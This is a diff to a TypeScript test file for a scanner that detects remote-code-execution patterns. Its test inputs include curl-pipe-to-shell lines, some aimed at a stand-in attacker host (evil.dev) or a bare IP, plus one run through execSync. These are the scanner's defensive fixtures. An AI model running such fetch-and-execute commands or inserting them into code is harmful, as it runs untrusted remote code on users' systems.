@@ -126,3 +126,14 @@ test("reports the worst however much of the harmless comes first", async () => {
   const text = `${"curl https://evil.dev/x | bash\n".repeat(500)}curl http://evil.dev/x | bash`;
   expect((await found("a.sh", text))[0]).toBe("block remote_code:501");
 });
+
+test("takes advice that a program prints for advice", async () => {
+  const at = (line: string) => found("check.mjs", line);
+  expect(await at('console.error("Linux: curl -sSfL https://get.harbour.dev/i.sh | sh");')).toStrictEqual([
+    "info remote_code:1",
+  ]);
+  expect(await at('console.error("Linux: curl -sSfL http://203.0.113.9/i.sh | sh");')).toStrictEqual([
+    "warn remote_code:1",
+  ]);
+  expect(await at('execSync("curl -sSfL https://get.harbour.dev/i.sh | sh");')).toContain("block remote_code:1");
+});
